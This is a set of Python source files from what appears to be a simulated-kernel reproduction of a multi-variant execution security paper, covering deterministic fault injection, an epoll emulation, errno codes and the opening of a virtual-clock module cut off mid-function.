"""Deterministic kernel-boundary fault injection.

The paper's security argument assumes the monitor survives hostile and
degenerate I/O (the CVE-2013-2028 attacker deliberately paces request
bytes, §2.2), yet a simulated kernel that only ever exercises the happy
path cannot witness the retry/partial-I/O behaviour real servers live
with.  This module is the adversarial-schedule plane: per *fault
schedule* it can

* shorten reads and writes (``read``/``write``/``recvfrom``/``sendto``
  transfer fewer bytes than asked);
* return ``EINTR`` or a spurious ``EAGAIN`` before retry-able syscalls;
* exhaust resources (``EMFILE``/``ENOMEM`` on ``open``);
* segment socket deliveries and add per-segment extra delay (attacker-
  style pacing applied to *every* stream);
* cap listener backlogs so connects overflow into ``ECONNREFUSED``.

Every decision is drawn from a SHA-256 counter stream keyed by the
kernel's seed plus the schedule name, exactly like ``/dev/urandom``
(`repro.kernel.vfs.UrandomStream`), so a schedule is a pure function of
``(seed, schedule, query sequence)``: re-running the same workload on a
kernel with the same seed and schedule reproduces every fault
bit-for-bit.  That is what keeps ``repro.trace`` record/replay exact —
the trace stores only the schedule *spec* (rr's insight: perturbations
must themselves be replayable), and replay re-derives the identical
fault stream.

The plane is inert by default: ``Kernel`` creates one with no schedule
installed and the syscall hot path pays a single attribute test.

Schedules come in two forms.  *Probabilistic* schedules draw per
opportunity from the counter stream, as above.  *Plan* schedules
(``FaultSchedule(plan=[...])``) list explicit ``(kind, nth-opportunity)``
events: the plane counts opportunities at every injection site either
way, so a failing probabilistic run's ``injected_events`` convert
one-for-one into a plan (:meth:`FaultSchedule.plan_from_events`) whose
event list `repro.sim`'s shrinker can then bisect deterministically.
"""

from __future__ import annotations

import hashlib
from contextlib import contextmanager
from dataclasses import asdict, dataclass, field
from typing import Dict, List, Optional, Tuple

from repro.kernel.errno_codes import Errno

#: syscalls a fault schedule may interrupt with EINTR; the libc layer
#: restarts these (SA_RESTART semantics), so the guest never sees the
#: interruption — only the extra kernel crossings.
RETRYABLE_SYSCALLS = frozenset((
    "read", "write", "recvfrom", "sendto", "accept4",
    "epoll_wait", "epoll_pwait", "open",
))

#: syscalls that may spuriously report EAGAIN (legal for any non-blocking
#: fd: the caller must treat readiness as a hint, not a promise).
EAGAIN_SYSCALLS = frozenset(("recvfrom", "accept4"))

#: syscalls whose byte counts a schedule may clamp (partial transfer).
SHORT_READ_SYSCALLS = frozenset(("read", "recvfrom"))
SHORT_WRITE_SYSCALLS = frozenset(("write", "sendto"))

#: every fault kind a plane can inject.  Plan entries and sim axes are
#: validated against this set at construction so a typo fails loudly
#: instead of producing a vacuous scenario.
KNOWN_FAULT_KINDS = frozenset((
    "eintr", "eagain", "emfile", "enomem",
    "short_read", "short_write", "segment", "spurious_wake",
    "link_delay", "link_drop", "link_reorder", "link_partition",
))


@dataclass
class FaultSchedule:
    """One named, serializable battery entry.

    Probabilities are per-opportunity; ``*_every`` counters fire on every
    Nth opportunity (1-indexed), which keeps resource-exhaustion faults
    rare but inevitable.  A schedule is plain data so traces can embed it
    (`to_dict`) and replay can rebuild it (`from_dict`).
    """

    name: str = "none"
    #: P(EINTR) before each retry-able syscall.
    eintr_p: float = 0.0
    #: P(spurious EAGAIN) before recvfrom/accept4.
    eagain_p: float = 0.0
    #: P(clamp) and byte cap for short reads (never clamps to 0: a
    #: zero-byte read would forge EOF).
    short_read_p: float = 0.0
    short_read_cap: int = 1
    #: P(clamp) and byte cap for short writes.
    short_write_p: float = 0.0
    short_write_cap: int = 1
    #: every Nth open fails EMFILE (0 = never).
    emfile_every: int = 0
    #: every Nth open fails ENOMEM (0 = never) — open(2) really can;
    #: guest mmap/malloc live outside the syscall surface (see
    #: docs/architecture.md §9 on fidelity limits).
    enomem_every: int = 0
    #: split every socket delivery into segments of at most this many
    #: bytes (0 = off) ...
    segment_bytes: int = 0
    #: ... each segment after the first arriving this much later than
    #: the previous one (attacker-style pacing on every stream).
    segment_extra_delay_ns: int = 0
    #: cap every listener's effective backlog (None = leave alone).
    backlog_cap: Optional[int] = None
    #: P(spurious scheduler wakeup) per park: the task is woken with no
    #: readiness behind it and must re-check and re-block (kernels really
    #: do this; thundering-herd handling must survive it).
    spurious_wake_p: float = 0.0
    # -- inter-host link faults (repro.cluster.link) ----------------------
    # All four kinds are *latency-only* on a reliable in-order link
    # (TCP-style): a dropped frame is retransmitted after the RTO, a
    # reordered frame waits in the receive buffer until its predecessors
    # deliver, a partition holds frames until it heals.  Payloads are
    # never lost or corrupted, so link faults can never cause a spurious
    # divergence — only later verdicts.
    #: P(extra queueing delay) per frame, and how much.
    link_delay_p: float = 0.0
    link_delay_ns: int = 0
    #: P(first transmission lost) per frame; the retransmit lands one
    #: RTO later.
    link_drop_p: float = 0.0
    link_rto_ns: int = 2_000_000
    #: P(frame overtaken in flight): it arrives late by this much and the
    #: receiver's in-order delivery holds everything behind it.
    link_reorder_p: float = 0.0
    link_reorder_ns: int = 0
    #: every Nth frame hits a transient partition (0 = never) and waits
    #: this long for it to heal.
    link_partition_every: int = 0
    link_partition_ns: int = 0
    #: explicit fault plan: a list of ``{"kind", "nth", ...params}``
    #: entries keyed by (kind, nth opportunity).  When set, the plane
    #: ignores the probabilistic fields and injects *exactly* these
    #: events — the shrinkable form a failing probabilistic run is
    #: converted to (``FaultPlane.injected_events`` →
    #: :meth:`plan_from_events`) so `repro.sim` can bisect the event
    #: list while every surviving event stays pinned to its opportunity.
    plan: Optional[List[Dict]] = None

    def __post_init__(self) -> None:
        if self.plan is None:
            return
        for entry in self.plan:
            kind = entry.get("kind")
            if kind not in KNOWN_FAULT_KINDS:
                raise ValueError(
                    f"unknown fault kind {kind!r} in plan for schedule "
                    f"{self.name!r}; known kinds: "
                    f"{', '.join(sorted(KNOWN_FAULT_KINDS))}")
            nth = entry.get("nth")
            if not isinstance(nth, int) or nth < 1:
                raise ValueError(
                    f"plan entry for {kind!r} needs a 1-indexed integer "
                    f"'nth' opportunity, got {nth!r}")

    def to_dict(self) -> Dict:
        raw = asdict(self)
        if raw.get("plan") is None:
            del raw["plan"]
        return raw

    @staticmethod
    def from_dict(raw: Dict) -> "FaultSchedule":
        known = FaultSchedule.__dataclass_fields__
        unknown = [key for key in raw if key not in known]
        if unknown:
            raise ValueError(
                f"unknown fault schedule field(s) "
                f"{', '.join(sorted(unknown))}; known fields: "
                f"{', '.join(sorted(known))}")
        return FaultSchedule(**raw)

    @staticmethod
    def plan_from_events(events: List[Dict], name: str = "plan",
                         backlog_cap: Optional[int] = None
                         ) -> "FaultSchedule":
        """Build an explicit-plan schedule replaying exactly ``events``
        (the ``FaultPlane.injected_events`` of a prior run).  Link-kind
        events keep their link name as a ``target`` so per-link planes
        only apply their own entries."""
        plan: List[Dict] = []
        for event in events:
            kind = event["kind"]
            entry: Dict = {"kind": kind, "nth": event["nth"]}
            if kind in ("short_read", "short_write"):
                entry["granted"] = event["granted"]
            elif kind == "segment":
                entry["size"] = event["size"]
                entry["delay_ns"] = event["delay_ns"]
            elif kind.startswith("link_"):
                entry["target"] = event["target"]
                entry["extra_ns"] = event["extra_ns"]
            plan.append(entry)
        return FaultSchedule(name=name, backlog_cap=backlog_cap, plan=plan)


def battery() -> List[FaultSchedule]:
    """The standard adversarial battery: every paper workload must
    complete under each of these with zero spurious MVX divergences.

    Each schedule also arms cluster-link faults (delay/drop/reorder/
    partition); single-host runs never query them, so the historical
    single-host decision streams are unchanged (link draws come from the
    per-link planes in ``repro.cluster.link``, never the host plane)."""
    return [
        FaultSchedule(name="short-reads", short_read_p=0.4,
                      short_read_cap=7,
                      link_delay_p=0.3, link_delay_ns=150_000),
        FaultSchedule(name="short-writes", short_write_p=0.4,
                      short_write_cap=9,
                      link_drop_p=0.2, link_rto_ns=1_000_000),
        FaultSchedule(name="eintr-storm", eintr_p=0.3,
                      link_reorder_p=0.25, link_reorder_ns=80_000),
        FaultSchedule(name="spurious-eagain", eagain_p=0.25,
                      link_partition_every=5,
                      link_partition_ns=3_000_000),
        FaultSchedule(name="segmented-net", segment_bytes=5,
                      segment_extra_delay_ns=20_000,
                      link_delay_p=0.5, link_delay_ns=40_000,
                      link_reorder_p=0.2, link_reorder_ns=60_000),
        FaultSchedule(name="everything", eintr_p=0.15, eagain_p=0.1,
                      short_read_p=0.2, short_read_cap=11,
                      short_write_p=0.2, short_write_cap=13,
                      segment_bytes=48, segment_extra_delay_ns=5_000,
                      link_delay_p=0.2, link_delay_ns=100_000,
                      link_drop_p=0.1, link_rto_ns=1_500_000,
                      link_reorder_p=0.1, link_reorder_ns=50_000,
                      link_partition_every=9,
                      link_partition_ns=2_000_000),
    ]


class FaultPlane:
    """The kernel's fault-injection decision point.

    Inactive (no schedule installed) it costs one attribute test per
    syscall.  Active, each opportunity consumes deterministic PRNG draws
    and every *injected* fault is reported through ``fault_hook`` and
    folded into ``digest`` — the flight recorder taps both, so a trace's
    footer pins the exact fault stream a replay must reproduce.
    """

    def __init__(self, seed: "bytes | str" = b"smvx-repro"):
        if isinstance(seed, str):
            seed = seed.encode()
        self.seed = seed
        self.schedule: Optional[FaultSchedule] = None
        #: the one flag the syscall hot path tests.
        self.active = False
        self._counter = 0
        self._suspend_depth = 0
        self._opens = 0
        self.injected_total = 0
        self.injected_by_kind: Dict[str, int] = {}
        #: per-kind opportunity counters, incremented at every injection
        #: site whether or not a fault fires.  The nth value carried by
        #: each injected event is what lets a probabilistic run be
        #: re-expressed as an explicit plan (same opportunities, same
        #: decisions) and then bisected.
        self._opps: Dict[str, int] = {}
        #: every injection of the current install, with its opportunity
        #: index and site parameters — the raw material for
        #: :meth:`FaultSchedule.plan_from_events`.
        self.injected_events: List[Dict] = []
        self._plan: Optional[Dict[Tuple[str, int], List[Dict]]] = None
        self._digest = hashlib.sha256()
        #: observer: fn(kind, target, detail_dict) on every injection —
        #: the flight recorder's tap.  Never charged virtual time.
        self.fault_hook = None

    # -- lifecycle -----------------------------------------------------------

    def install(self, schedule: Optional[FaultSchedule]) -> None:
        """Install ``schedule`` (or None to disarm) and reset the
        decision stream, so install+workload is reproducible."""
        self.schedule = schedule
        self._counter = 0
        self._opens = 0
        self.injected_total = 0
        self.injected_by_kind = {}
        self._opps = {}
        self.injected_events = []
        self._plan = None
        if schedule is not None and schedule.plan is not None:
            self._plan = {}
            for entry in schedule.plan:
                key = (entry["kind"], entry["nth"])
                self._plan.setdefault(key, []).append(entry)
        self._digest = hashlib.sha256()
        self.active = schedule is not None

    @contextmanager
    def suspended(self):
        """No-fault window for machinery-internal I/O (the monitor's
        ``setup()`` reads, rr-style recorder-owned file handling): faults
        model a hostile *world*, not a self-sabotaging monitor."""
        self._suspend_depth += 1
        previous, self.active = self.active, False
        try:
            yield
        finally:
            self._suspend_depth -= 1
            if self._suspend_depth == 0 and self.schedule is not None:
                self.active = previous

    # -- the deterministic decision stream -------------------------------------

    def _draw(self) -> float:
        """One uniform [0, 1) variate from the keyed counter stream."""
        name = (self.schedule.name if self.schedule else "none").encode()
        block = hashlib.sha256(
            self.seed + b"|faults|" + name + b"|" +
            self._counter.to_bytes(8, "little")).digest()
        self._counter += 1
        return int.from_bytes(block[:8], "little") / float(1 << 64)

    def _inject(self, kind: str, target: str, **detail) -> None:
        self.injected_total += 1
        self.injected_by_kind[kind] = self.injected_by_kind.get(kind, 0) + 1
        payload = f"{kind}:{target}:" + ",".join(
            f"{k}={detail[k]}" for k in sorted(detail))
        self._digest.update(payload.encode())
        self.injected_events.append(
            dict(detail, kind=kind, target=target))
        if self.fault_hook is not None:
            self.fault_hook(kind, target, detail)

    def _opp(self, kind: str) -> int:
        """Count one opportunity for ``kind``; returns its 1-indexed
        position.  Counted unconditionally (plan or probabilistic mode)
        so recorded nth values line up across both."""
        nth = self._opps.get(kind, 0) + 1
        self._opps[kind] = nth
        return nth

    def _planned(self, kind: str, nth: int,
                 target: Optional[str] = None) -> Optional[Dict]:
        """The plan entry for this (kind, nth) opportunity, if any.
        Entries carrying a ``target`` (link names) only match that
        target; untargeted entries match anywhere."""
        if self._plan is None:
            return None
        for entry in self._plan.get((kind, nth), ()):
            want = entry.get("target")
            if want is None or want == target:
                return entry
        return None

    @property
    def digest(self) -> str:
        return self._digest.hexdigest()

    # -- injection points (called by the kernel) --------------------------------

    def before_syscall(self, name: str) -> Optional[int]:
        """Fault to return instead of running the handler, or None.

        Called after the syscall is counted/charged and entry hooks ran:
        an injected EINTR is a real kernel crossing, and the trace's
        syscall digest must contain it.
        """
        schedule = self.schedule
        if schedule is None:
            return None
        plan = self._plan
        if name == "open":
            self._opens += 1
            if plan is not None:
                if self._planned("emfile", self._opens) is not None:
                    self._inject("emfile", name, nth=self._opens)
                    return -Errno.EMFILE
                if self._planned("enomem", self._opens) is not None:
                    self._inject("enomem", name, nth=self._opens)
                    return -Errno.ENOMEM
            else:
                if schedule.emfile_every and \
                        self._opens % schedule.emfile_every == 0:
                    self._inject("emfile", name, nth=self._opens)
                    return -Errno.EMFILE
                if schedule.enomem_every and \
                        self._opens % schedule.enomem_every == 0:
                    self._inject("enomem", name, nth=self._opens)
                    return -Errno.ENOMEM
        if name in RETRYABLE_SYSCALLS:
            nth = self._opp("eintr")
            if plan is not None:
                if self._planned("eintr", nth) is not None:
                    self._inject("eintr", name, nth=nth)
                    return -Errno.EINTR
            elif schedule.eintr_p and self._draw() < schedule.eintr_p:
                self._inject("eintr", name, nth=nth)
                return -Errno.EINTR
        if name in EAGAIN_SYSCALLS:
            nth = self._opp("eagain")
            if plan is not None:
                if self._planned("eagain", nth) is not None:
                    self._inject("eagain", name, nth=nth)
                    return -Errno.EAGAIN
            elif schedule.eagain_p and self._draw() < schedule.eagain_p:
                self._inject("eagain", name, nth=nth)
                return -Errno.EAGAIN
        return None

    def clamp_io(self, name: str, count: int) -> int:
        """Possibly shorten a transfer; never below 1 byte (a clamp to 0
        would forge EOF on reads and a no-op on writes)."""
        schedule = self.schedule
        if schedule is None or count <= 1:
            return count
        plan = self._plan
        if name in SHORT_READ_SYSCALLS:
            nth = self._opp("short_read")
            if plan is not None:
                entry = self._planned("short_read", nth)
                if entry is not None:
                    clamped = max(1, min(count, entry["granted"]))
                    if clamped < count:
                        self._inject("short_read", name, asked=count,
                                     granted=clamped, nth=nth)
                    return clamped
            elif schedule.short_read_p and \
                    self._draw() < schedule.short_read_p:
                clamped = max(1, min(count, schedule.short_read_cap))
                if clamped < count:
                    self._inject("short_read", name, asked=count,
                                 granted=clamped, nth=nth)
                return clamped
        if name in SHORT_WRITE_SYSCALLS:
            nth = self._opp("short_write")
            if plan is not None:
                entry = self._planned("short_write", nth)
                if entry is not None:
                    clamped = max(1, min(count, entry["granted"]))
                    if clamped < count:
                        self._inject("short_write", name, asked=count,
                                     granted=clamped, nth=nth)
                    return clamped
            elif schedule.short_write_p and \
                    self._draw() < schedule.short_write_p:
                clamped = max(1, min(count, schedule.short_write_cap))
                if clamped < count:
                    self._inject("short_write", name, asked=count,
                                 granted=clamped, nth=nth)
                return clamped
        return count

    def segment_delivery(self, data: bytes
                         ) -> Optional[List[Tuple[bytes, int]]]:
        """Split one socket delivery into ``(chunk, extra_delay_ns)``
        pieces, or None to deliver whole.  Delays are cumulative in the
        caller: segment *k* arrives k * extra_delay_ns after the first."""
        schedule = self.schedule
        if schedule is None:
            return None
        nth = self._opp("segment")
        if self._plan is not None:
            entry = self._planned("segment", nth)
            if entry is None:
                return None
            size, delay_ns = entry["size"], entry["delay_ns"]
        elif schedule.segment_bytes:
            size, delay_ns = (schedule.segment_bytes,
                              schedule.segment_extra_delay_ns)
        else:
            return None
        if len(data) <= size:
            return None
        pieces = [(bytes(data[i:i + size]), (i // size) * delay_ns)
                  for i in range(0, len(data), size)]
        self._inject("segment", "deliver", nbytes=len(data),
                     pieces=len(pieces), size=size, delay_ns=delay_ns,
                     nth=nth)
        return pieces

    def spurious_wake(self) -> bool:
        """Should this park be woken spuriously?  (Consulted by the
        scheduler; draws only when the schedule arms it, so schedules
        without it keep their exact historical decision streams.)"""
        schedule = self.schedule
        if schedule is None:
            return False
        nth = self._opp("spurious_wake")
        if self._plan is not None:
            if self._planned("spurious_wake", nth) is not None:
                self._inject("spurious_wake", "park", nth=nth)
                return True
            return False
        if not schedule.spurious_wake_p:
            return False
        if self._draw() < schedule.spurious_wake_p:
            self._inject("spurious_wake", "park", nth=nth)
            return True
        return False

    def link_frame(self, link: str, frame_seq: int, nbytes: int) -> float:
        """Extra delivery delay (ns) for one wire frame on a cluster
        link, drawn from this plane's stream.  Each
        :class:`repro.cluster.link.ClusterLink` owns its *own* plane, so
        link draws never perturb a host's syscall fault stream.

        All four kinds are additive latency on a reliable in-order
        transport — content is never lost, so they can shift verdict
        arrival times but never fabricate a divergence."""
        schedule = self.schedule
        if schedule is None:
            return 0.0
        extra = 0.0
        if self._plan is not None:
            # frame_seq is the per-link opportunity index: plan entries
            # for link kinds carry the link name as their target, so a
            # plan shared across links applies only where it was recorded.
            for kind in ("link_partition", "link_delay", "link_drop",
                         "link_reorder"):
                entry = self._planned(kind, frame_seq, target=link)
                if entry is not None:
                    extra += entry["extra_ns"]
                    self._inject(kind, link, frame=frame_seq,
                                 extra_ns=entry["extra_ns"],
                                 nth=frame_seq)
            return extra
        if schedule.link_partition_every and \
                frame_seq % schedule.link_partition_every == 0:
            extra += schedule.link_partition_ns
            self._inject("link_partition", link, frame=frame_seq,
                         held_ns=schedule.link_partition_ns,
                         extra_ns=schedule.link_partition_ns,
                         nth=frame_seq)
        if schedule.link_delay_p and self._draw() < schedule.link_delay_p:
            extra += schedule.link_delay_ns
            self._inject("link_delay", link, frame=frame_seq,
                         delay_ns=schedule.link_delay_ns,
                         extra_ns=schedule.link_delay_ns, nth=frame_seq)
        if schedule.link_drop_p and self._draw() < schedule.link_drop_p:
            extra += schedule.link_rto_ns
            self._inject("link_drop", link, frame=frame_seq,
                         rto_ns=schedule.link_rto_ns, nbytes=nbytes,
                         extra_ns=schedule.link_rto_ns, nth=frame_seq)
        if schedule.link_reorder_p and \
                self._draw() < schedule.link_reorder_p:
            extra += schedule.link_reorder_ns
            self._inject("link_reorder", link, frame=frame_seq,
                         late_ns=schedule.link_reorder_ns,
                         extra_ns=schedule.link_reorder_ns,
                         nth=frame_seq)
        return extra

    def backlog_limit(self, configured: int) -> int:
        """Effective listener backlog under this schedule."""
        schedule = self.schedule
        if schedule is None or schedule.backlog_cap is None:
            return configured
        return min(configured, schedule.backlog_cap)
