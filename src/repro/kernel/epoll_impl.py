"""epoll.

Level-triggered epoll over the kernel's file descriptions.  The paper
singles out ``epoll_wait``/``epoll_pwait`` as needing *special* emulation
in the MVX monitor because ``epoll_data`` is a union — when an application
stores a pointer there, the follower variant must see a translated value
(paper §3.3).  We therefore keep ``epoll_data`` as an opaque 64-bit integer
exactly as Linux does, so the sMVX monitor has to apply the same
"is it a pointer into the address space?" heuristic the paper describes.

Cost model: ``poll`` is O(ready), not O(interest).  Each instance keeps an
event-driven *armed list* — the deterministic analogue of Linux's epoll
ready list.  An fd is armed when added, and re-armed by its channel
(``Socket._deliver``, FIN arrival, ``Listener.enqueue``) through a watcher
callback; a poll that finds an armed fd idle with nothing in flight
disarms it, so a worker holding thousands of quiet keep-alive connections
probes only the fds that actually have traffic.  Fairness is preserved:
the scan rotates over the armed list exactly as it used to rotate over the
interest list, advancing whenever a poll saturates ``max_events``.

Probes may return the legacy 3-tuple ``(readable, writable, hup)`` or the
richer 4-tuple with ``next_ready_at`` appended.  Only 4-tuple probes opt
in to disarming: a 3-tuple probe carries no in-flight information, so its
fds stay armed and the instance degrades to the old O(interest) scan —
which keeps direct users of :class:`EpollInstance` (tests, tools) working
unchanged without registering channels.
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import Callable, Dict, List, Optional, Tuple

from repro.kernel.errno_codes import Errno

EPOLLIN = 0x001
EPOLLOUT = 0x004
EPOLLERR = 0x008
EPOLLHUP = 0x010

EPOLL_CTL_ADD = 1
EPOLL_CTL_DEL = 2
EPOLL_CTL_MOD = 3


@dataclass
class _Interest:
    events: int
    data: int            # the epoll_data union, as a raw 64-bit value


class EpollInstance:
    """One epoll file descriptor's interest list + armed (ready) list."""

    def __init__(self) -> None:
        self._interest: Dict[int, _Interest] = {}
        #: scan-start rotation over the armed list, advanced whenever a
        #: poll saturates ``max_events`` — Linux's ready-list round-robin
        #: analogue, so fds early in the armed list cannot starve later
        #: ones.
        self._rotation = 0
        #: the armed list: fds that *may* be ready, in arming order
        #: (dict-as-ordered-set; values unused).
        self._armed: Dict[int, None] = {}
        #: fd -> (channel, watcher) for channels that push re-arms.
        self._channels: Dict[int, Tuple[object, Callable[[], None]]] = {}
        #: cost counters: ``probes``/``polls`` is the per-poll scan cost,
        #: which must track the number of *armed* fds, not watched ones.
        self.polls = 0
        self.probes = 0
        #: interest-list high-water mark — the O(interest) baseline the
        #: probes/polls ratio is judged against.
        self.max_interest = 0

    # -- armed list -----------------------------------------------------------

    def arm(self, fd: int) -> None:
        """Put ``fd`` on the armed list (idempotent, keeps first position)."""
        if fd in self._interest:
            self._armed[fd] = None

    def _disarm(self, fd: int) -> None:
        self._armed.pop(fd, None)

    def _watch(self, fd: int, channel: object) -> None:
        add = getattr(channel, "add_watcher", None)
        if add is None:
            return

        def rearm(fd=fd):
            self.arm(fd)

        add(rearm)
        self._channels[fd] = (channel, rearm)

    def _unwatch(self, fd: int) -> None:
        entry = self._channels.pop(fd, None)
        if entry is not None:
            channel, watcher = entry
            remove = getattr(channel, "remove_watcher", None)
            if remove is not None:
                remove(watcher)

    def close(self) -> None:
        """Detach every watcher (the epoll fd itself is being closed)."""
        for fd in list(self._channels):
            self._unwatch(fd)
        self._interest.clear()
        self._armed.clear()

    # -- interest list --------------------------------------------------------

    def ctl(self, op: int, fd: int, events: int = 0, data: int = 0,
            channel: object = None) -> int:
        if op == EPOLL_CTL_ADD:
            if fd in self._interest:
                return -Errno.EEXIST
            self._interest[fd] = _Interest(events, data)
            if len(self._interest) > self.max_interest:
                self.max_interest = len(self._interest)
            if channel is not None:
                self._watch(fd, channel)
            self.arm(fd)         # level-triggered: it may be ready already
            return 0
        if op == EPOLL_CTL_MOD:
            if fd not in self._interest:
                return -Errno.ENOENT
            self._interest[fd] = _Interest(events, data)
            self.arm(fd)         # the new mask may match current state
            return 0
        if op == EPOLL_CTL_DEL:
            if fd not in self._interest:
                return -Errno.ENOENT
            del self._interest[fd]
            self._unwatch(fd)
            self._disarm(fd)
            return 0
        return -Errno.EINVAL

    def forget(self, fd: int) -> None:
        """Drop interest when the fd is closed (Linux does this implicitly)."""
        self._interest.pop(fd, None)
        self._unwatch(fd)
        self._disarm(fd)

    def poll(self, now: float,
             probe: Callable[[int], Optional[Tuple]],
             max_events: int) -> List[Tuple[int, int]]:
        """Collect ready ``(events, data)`` pairs from the armed list.

        ``probe(fd)`` returns ``(readable, writable, hup)`` — optionally
        with ``next_ready_at`` appended — for a live fd, or ``None`` for a
        stale one.

        The scan starts at a rotating position: whenever a poll returns a
        full ``max_events`` batch, the next scan begins just past the last
        fd served, so a busy prefix of the armed list cannot starve later
        fds (the deterministic analogue of Linux's ready-list
        round-robin).
        """
        self.polls += 1
        items = list(self._armed)
        if not items:
            return []
        start = self._rotation % len(items)
        ready: List[Tuple[int, int]] = []
        for position in range(len(items)):
            fd = items[(start + position) % len(items)]
            interest = self._interest.get(fd)
            if interest is None:
                self._disarm(fd)
                continue
            state = probe(fd)
            self.probes += 1
            if state is None:
                # Stale: the fd was closed while armed; drop it so it is
                # never probed again.
                self._disarm(fd)
                continue
            readable, writable, hup = state[0], state[1], state[2]
            pending = state[3] if len(state) > 3 else False
            events = 0
            if readable and interest.events & EPOLLIN:
                events |= EPOLLIN
            if writable and interest.events & EPOLLOUT:
                events |= EPOLLOUT
            if hup:
                events |= EPOLLHUP
            if events:
                ready.append((events, interest.data))
                if len(ready) >= max_events:
                    self._rotation = (start + position + 1) % len(items)
                    break
            elif pending is None and not interest.events & EPOLLOUT:
                # A 4-tuple probe says: idle now, nothing in flight.  The
                # channel watcher will re-arm on the next delivery.
                # (EPOLLOUT interests stay armed — writability has no
                # delivery event.)  3-tuple probes (pending=False) never
                # disarm: legacy callers keep O(interest) semantics.
                self._disarm(fd)
        return ready

    def next_ready_at(self,
                      horizon: Callable[[int], Optional[float]]) -> Optional[float]:
        """Earliest future instant any *armed* fd could become readable.

        Disarmed fds have nothing queued and nothing in flight by
        construction, so scanning the armed list suffices — this is the
        blocking-wait horizon and must stay O(ready) too.
        """
        soonest: Optional[float] = None
        for fd in list(self._armed):
            candidate = horizon(fd)
            if candidate is not None and (soonest is None
                                          or candidate < soonest):
                soonest = candidate
        return soonest

    @property
    def watched_fds(self) -> List[int]:
        return list(self._interest)

    @property
    def armed_fds(self) -> List[int]:
        return list(self._armed)
