"""epoll.

Level-triggered epoll over the kernel's file descriptions.  The paper
singles out ``epoll_wait``/``epoll_pwait`` as needing *special* emulation
in the MVX monitor because ``epoll_data`` is a union — when an application
stores a pointer there, the follower variant must see a translated value
(paper §3.3).  We therefore keep ``epoll_data`` as an opaque 64-bit integer
exactly as Linux does, so the sMVX monitor has to apply the same
"is it a pointer into the address space?" heuristic the paper describes.
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import Callable, Dict, List, Optional, Tuple

from repro.kernel.errno_codes import Errno

EPOLLIN = 0x001
EPOLLOUT = 0x004
EPOLLERR = 0x008
EPOLLHUP = 0x010

EPOLL_CTL_ADD = 1
EPOLL_CTL_DEL = 2
EPOLL_CTL_MOD = 3


@dataclass
class _Interest:
    events: int
    data: int            # the epoll_data union, as a raw 64-bit value


class EpollInstance:
    """One epoll file descriptor's interest list."""

    def __init__(self) -> None:
        self._interest: Dict[int, _Interest] = {}
        #: scan-start rotation, advanced whenever a poll saturates
        #: ``max_events`` — Linux's ready-list round-robin analogue, so
        #: fds late in the interest list cannot starve.
        self._rotation = 0

    def ctl(self, op: int, fd: int, events: int = 0, data: int = 0) -> int:
        if op == EPOLL_CTL_ADD:
            if fd in self._interest:
                return -Errno.EEXIST
            self._interest[fd] = _Interest(events, data)
            return 0
        if op == EPOLL_CTL_MOD:
            if fd not in self._interest:
                return -Errno.ENOENT
            self._interest[fd] = _Interest(events, data)
            return 0
        if op == EPOLL_CTL_DEL:
            if fd not in self._interest:
                return -Errno.ENOENT
            del self._interest[fd]
            return 0
        return -Errno.EINVAL

    def forget(self, fd: int) -> None:
        """Drop interest when the fd is closed (Linux does this implicitly)."""
        self._interest.pop(fd, None)

    def poll(self, now: float,
             probe: Callable[[int], Optional[Tuple[bool, bool, bool]]],
             max_events: int) -> List[Tuple[int, int]]:
        """Collect ready ``(events, data)`` pairs.

        ``probe(fd)`` returns ``(readable, writable, hup)`` for a live fd or
        ``None`` for a stale one.

        The scan starts at a rotating position: whenever a poll returns a
        full ``max_events`` batch, the next scan begins just past the last
        fd served, so a busy prefix of the interest list cannot starve
        later fds (the deterministic analogue of Linux's ready-list
        round-robin).
        """
        items = list(self._interest.items())
        if not items:
            return []
        start = self._rotation % len(items)
        ready: List[Tuple[int, int]] = []
        for position in range(len(items)):
            fd, interest = items[(start + position) % len(items)]
            state = probe(fd)
            if state is None:
                continue
            readable, writable, hup = state
            events = 0
            if readable and interest.events & EPOLLIN:
                events |= EPOLLIN
            if writable and interest.events & EPOLLOUT:
                events |= EPOLLOUT
            if hup:
                events |= EPOLLHUP
            if events:
                ready.append((events, interest.data))
                if len(ready) >= max_events:
                    self._rotation = (start + position + 1) % len(items)
                    break
        return ready

    def next_ready_at(self,
                      horizon: Callable[[int], Optional[float]]) -> Optional[float]:
        """Earliest future instant any watched fd could become readable."""
        soonest: Optional[float] = None
        for fd in self._interest:
            candidate = horizon(fd)
            if candidate is not None and (soonest is None
                                          or candidate < soonest):
                soonest = candidate
        return soonest

    @property
    def watched_fds(self) -> List[int]:
        return list(self._interest)
