"""Errno values, matching Linux x86-64 numbering for the codes we use.

The sMVX monitor must emulate errno for the follower variant on every
intercepted libc call (paper §3.3, Table 1), so these values travel through
the lockstep IPC and are compared for divergence.
"""

from __future__ import annotations

import enum


class Errno(enum.IntEnum):
    EPERM = 1
    ENOENT = 2
    EINTR = 4
    EIO = 5
    EBADF = 9
    EAGAIN = 11          # == EWOULDBLOCK
    ENOMEM = 12
    EACCES = 13
    EFAULT = 14
    EEXIST = 17
    ENOTDIR = 20
    EISDIR = 21
    EINVAL = 22
    ENFILE = 23
    EMFILE = 24
    ENOTTY = 25
    EFBIG = 27
    ENOSPC = 28
    ESPIPE = 29
    EPIPE = 32
    ENOSYS = 38
    ENOTSOCK = 88
    EOPNOTSUPP = 95
    EADDRINUSE = 98
    ECONNRESET = 104
    ENOTCONN = 107
    ETIMEDOUT = 110
    ECONNREFUSED = 111
    EINPROGRESS = 115


EWOULDBLOCK = Errno.EAGAIN


def errno_name(code: int) -> str:
    """Human-readable name for an errno value (for divergence reports)."""
    try:
        return Errno(code).name
    except ValueError:
        return f"errno({code})"
