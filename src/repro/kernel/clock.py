"""Virtual time.

The whole simulation runs on one deterministic clock.  CPU work, kernel
crossings, context switches, and network latency all advance it, so
"performance" results are reproducible bit-for-bit (DESIGN.md §1).

``localtime_r``/``gettimeofday`` are on the paper's list of libc calls that
must be emulated for the follower variant — otherwise the two variants
observe different times and diverge spuriously (paper §3.3, citing
Orchestra).  The clock therefore implements a real civil-time breakdown so
those calls return meaningful, comparable data.
"""

from __future__ import annotations

from dataclasses import dataclass

#: Simulation epoch: 2024-12-02T00:00:00Z (first day of Middleware '24).
DEFAULT_EPOCH_S = 1733097600

NSEC_PER_SEC = 1_000_000_000
USEC_PER_SEC = 1_000_000

_DAYS_IN_MONTH = (31, 28, 31, 30, 31, 30, 31, 31, 30, 31, 30, 31)


def _is_leap(year: int) -> bool:
